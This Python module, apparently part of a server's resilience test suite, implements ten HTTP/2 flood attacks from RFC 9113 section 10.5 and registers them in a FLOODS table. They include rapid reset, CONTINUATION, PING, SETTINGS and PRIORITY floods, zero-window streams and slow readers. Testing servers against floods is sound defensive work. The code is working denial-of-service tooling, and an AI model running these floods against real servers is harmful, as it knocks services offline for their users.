"""
Floods of HTTP/2 frames (RFC 9113 section 10.5).
"""

from __future__ import annotations

import itertools
import struct
from collections import Counter
from functools import partial
from typing import Callable, Iterable, Iterator

from tests.support.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW,
    block,
    frame,
)

from .answers import HTTP2Answers
from .flood import Flood
from .pump import Client, drive
from .site import Site

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

#: C{SETTINGS_INITIAL_WINDOW_SIZE}.
INITIAL_WINDOW = 4

#: Frames in a piece that is sent over and over.
MANY = 500

#: Makes the pieces of one connection, given the host and its answers.
Pieces = Callable[[str, HTTP2Answers], Iterable[bytes]]


def fields(host: str, method: str = "GET", path: str = "/healthz") -> bytes:
    """
    The header block of a request.
    """
    return block((":method", method), (":scheme", "https"), (":path", path), (":authority", host))


def settings(*values: tuple[int, int]) -> bytes:
    """
    A SETTINGS frame.
    """
    return frame(SETTINGS, payload=b"".join(struct.pack("!HI", *value) for value in values))


def attack(
    site: Site,
    deadline: float,
    tally: Counter[str],
    *,
    pieces: Pieces,
    count: int = 1,
    reads: bool = True,
    comeBack: bool = True,
) -> None:
    """
    Run one flood over so many connections.

    @param reads: Whether the answers are read.
    """
    context = site.context("h2")

    def connect() -> Client | None:
        try:
            made = site.tls("h2", context, receiveBuffer=0 if reads else 4_096)
        except OSError:
            tally["refused"] += 1
            return None
        answers = HTTP2Answers(tally)
        return Client(made, pieces(site.host, answers), tally, answers if reads else None)

    drive(connect, count, deadline, tally, comeBack=comeBack)


def unfinishedBodies(host: str, answers: HTTP2Answers) -> Iterator[bytes]:
    """
    A hundred requests without an end, and 64,000 bytes of body for 64 of them.
    """
    head = fields(host, "POST", "/session")
    streams = range(1, 200, 2)
    yield PREFACE + settings() + b"".join(frame(HEADERS, END_HEADERS, at, head) for at in streams)
    data = bytes(16_000)
    for stream, _ in itertools.product(streams[:64], range(4)):
        while answers.window < len(data):
            yield b""
        answers.window -= len(data)
        yield frame(DATA, 0, stream, data)


def rapidReset(host: str, answers: HTTP2Answers) -> Iterator[bytes]:
    """
    Requests that are cancelled in the same breath.
    """
    head = fields(host)
    yield PREFACE + settings()
    cancel = (8).to_bytes(4, "big")
    for first in range(1, 1 << 31, 200):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
            + frame(RST_STREAM, 0, stream, cancel)
            for stream in range(first, first + 200, 2)
        )


def dataOnClosed(host: str, answers: HTTP2Answers) -> Iterator[bytes]:
    """
    DATA on a stream that both sides have closed.
    """
    yield PREFACE + settings() + frame(HEADERS, END_HEADERS | END_STREAM, 1, fields(host))
    piece = frame(DATA, 0, 1, b"x") * MANY
    while True:
        if answers.window < MANY:
            yield b""
            continue
        answers.window -= MANY
        yield piece


def withoutWindow(host: str, answers: HTTP2Answers) -> Iterator[bytes]:
    """
    A hundred requests whose answers may not be sent.
    """
    head = fields(host, path="/")
    yield (
        PREFACE
        + settings((INITIAL_WINDOW, 0))
        + b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, head) for stream in range(1, 200, 2)
        )
    )


def slowReader(host: str, answers: HTTP2Answers) -> Iterator[bytes]:
    """
    Eight downloads of a large file with large windows.
    """
    head = fields(host, path="/large.bin")
    yield PREFACE + settings((INITIAL_WINDOW, (1 << 31) - 1))
    yield frame(WINDOW, 0, 0, (1 << 30).to_bytes(4, "big"))
    yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, at, head) for at in range(1, 17, 2))


def over(piece: bytes, first: bytes = b"") -> Pieces:
    """
    One piece over and over.

    @param first: What is sent before it.
    """
    return lambda host, answers: itertools.chain(
        [PREFACE + settings() + first], itertools.repeat(piece)
    )


def emptyData(host: str, answers: HTTP2Answers) -> Iterator[bytes]:
    """
    A body of empty frames.
    """
    first = frame(HEADERS, END_HEADERS, 1, fields(host, "POST", "/session"))
    yield PREFACE + settings() + first
    yield from itertools.repeat(frame(DATA, 0, 1) * MANY)


def _priorities() -> bytes:
    return b"".join(
        frame(PRIORITY, 0, stream, struct.pack("!IB", 0, 15)) for stream in range(1, 2 * MANY, 2)
    )


FLOODS = (
    Flood(
        "h2-bodies",
        "HTTP/2: 150 connections, bodies without an end",
        partial(attack, pieces=unfinishedBodies, count=150, comeBack=False),
    ),
    Flood("h2-reset", "HTTP/2: rapid reset", partial(attack, pieces=rapidReset)),
    Flood("h2-closed", "HTTP/2: DATA on a closed stream", partial(attack, pieces=dataOnClosed)),
    Flood(
        "h2-window",
        "HTTP/2: 5,000 streams without a window",
        partial(attack, pieces=withoutWindow, count=50, comeBack=False),
    ),
    Flood(
        "h2-ping",
        "HTTP/2: PING",
        partial(attack, pieces=over(frame(PING, payload=bytes(8)) * MANY)),
    ),
    Flood("h2-settings", "HTTP/2: SETTINGS", partial(attack, pieces=over(settings() * MANY))),
    Flood("h2-priority", "HTTP/2: PRIORITY", partial(attack, pieces=over(_priorities()))),
    Flood("h2-empty", "HTTP/2: empty DATA", partial(attack, pieces=emptyData)),
    Flood(
        "h2-continuation",
        "HTTP/2: CONTINUATION without an end",
        partial(
            attack,
            pieces=over(frame(CONTINUATION, 0, 1) * MANY, frame(HEADERS, END_STREAM, 1, b"\x82")),
        ),
    ),
    Flood(
        "h2-slow",
        "HTTP/2: 100 slow readers, 8 large files each",
        partial(attack, pieces=slowReader, count=100, reads=False, comeBack=False),
    ),
)
